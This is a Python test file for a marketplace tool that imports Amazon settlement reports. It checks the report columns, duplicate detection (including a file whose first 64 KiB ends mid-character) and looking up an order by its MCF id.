    assert list(rows[0]) == ["settlement_id", "order_id", "merchant_order_id", "order_key", "channel", "match",
                             "marketplace", "currency", "revenue", "fees", "promotions", "withheld_tax", "refunds",
                             "other", "unclassified", "net", "rows", "posted_first", "posted_last"]
    assert rows[0]["merchant_order_id"] == 'ERP "7", shelf 2' and rows[0]["marketplace"] == "Amazon.de, Inc."
    assert rows[0]["order_key"] == keys["A"] and rows[0]["fees"] == "-3.00" and rows[0]["settlement_id"] == SID
    assert rows[1]["order_id"] == B and rows[1]["net"] == "4.25"
    assert len(rows) == 2 and all(len(r) == 19 for r in rows)
    # a second copy: its duplicate note keeps the old name too
    env.clock.advance(60)
    assert env.drop("q2.txt", render_v2(Settlement(lines=lines), newline="\r\n"))["state"] == "duplicate"
    assert any(p.name.startswith(f"settlement-{SID}-duplicate-") for p in env.reports.iterdir())


# -- hardening (review) ------------------------------------------------------------------------------
def test_copy_whose_64k_head_ends_inside_a_utf8_character_is_still_a_duplicate(env):
    """The duplicate check reads the settlement id from the file's first 64 KiB; when that window
    ends inside a multi-byte character (a Polish SKU), the copy must still be recognised."""
    from .test_settlement_parser import _big_utf8_with_char_at

    copy = _big_utf8_with_char_at(1 << 16)
    original = copy.replace(b" " * 20, b"")  # the same settlement without the padding blanks
    assert original != copy
    first = env.drop("amazon-api.txt", original)
    assert first["state"] == "done", first["error"]
    before = _state(env)
    again = env.drop("seller-central.txt", copy)
    assert again["state"] == "duplicate" and again["duplicate_of"] == first["id"], again["error"]
    assert _state(env) == before


def test_an_applied_settlement_is_recognised_after_parsing_even_if_the_head_gave_no_id(env, monkeypatch):
    """Defence in depth: the handler checks the parsed id against the store, not only the peeked one."""
    from marketd.plugins.amazon import settlement_parser  # the format imports it when a file comes

    stored_orders(env)
    data = render_v2(settlement())
    first = env.drop("a.txt", data)
    before = _state(env)
    monkeypatch.setattr(settlement_parser, "peek_settlement_id", lambda *a, **k: None)
    again = env.drop("b.txt", render_v2(settlement(), newline="\r\n"))
    assert again["state"] == "duplicate" and again["duplicate_of"] == first["id"], again["error"]
    assert _state(env) == before


def test_orders_show_finds_a_shop_order_by_the_mcf_order_id_of_its_settlement_line(env):
    """The settlement names an MCF order by Amazon's ``S01-…`` id; the operator copies that id."""
    keys = stored_orders(env)
    env.drop("s.txt", render_v2(settlement()))
    out = marketd(env, "orders", "show", MCF_ID)
    assert out.returncode == 0, out.stderr
    assert f"order       {keys['MCF']}" in out.stdout
    assert "fees paid to the marketplace" in out.stdout and "-5.49 EUR" in out.stdout
    assert "unmatched payout line" not in out.stdout
